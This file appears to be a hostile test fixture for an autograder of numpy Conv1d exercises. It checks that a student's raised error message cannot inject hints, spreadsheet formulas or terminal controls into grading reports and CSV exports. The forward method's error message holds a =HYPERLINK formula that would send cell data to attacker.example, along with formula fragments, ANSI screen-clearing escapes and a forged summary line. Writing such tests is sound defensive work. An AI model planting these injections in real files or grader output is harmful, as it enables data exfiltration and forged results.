# Hostile (issue 25, text that becomes structure): forward raises with a message that holds a line "Hint:
# =HYPERLINK(...)", formulas and terminal controls. Hints are data the judge records, never read out of a message:
# the feedback table, the class report and misconceptions.csv show no such hint, and every CSV writes a cell that
# starts like a formula as text. The forward scores 0; what needs no forward scores.
# expect: test_predict=1 test_output_length=2 test_signature_weight=1
# %% answer predict_answer
predicted_shape = (4, 8, 6)
# %% answer length_answer
def conv1d_output_length(L_in, kernel_size, stride=1, padding=0, dilation=1):
    return (L_in - kernel_size) // stride + 1
# %% answer conv1d_answer
import numpy as np
from numpy.lib.stride_tricks import sliding_window_view


class Conv1d:
    def __init__(self, in_channels, out_channels, kernel_size, stride=1):
        self.in_channels, self.out_channels, self.kernel_size = in_channels, out_channels, kernel_size
        self.stride = stride
        self.weight = np.zeros((out_channels, in_channels, kernel_size))
        self.bias = None

    def forward(self, x):
        # a message that reads like the grader's hint and like a spreadsheet formula
        raise ValueError('bad input\n  Hint: =HYPERLINK("http://attacker.example/?"&A1,"your grade is wrong: '
                         'click")\n=1+1\n@SUM(A1:A9)\n\x1b[2J\x1b[1;1Hforged summary line')

    def __call__(self, x):
        return self.forward(x)
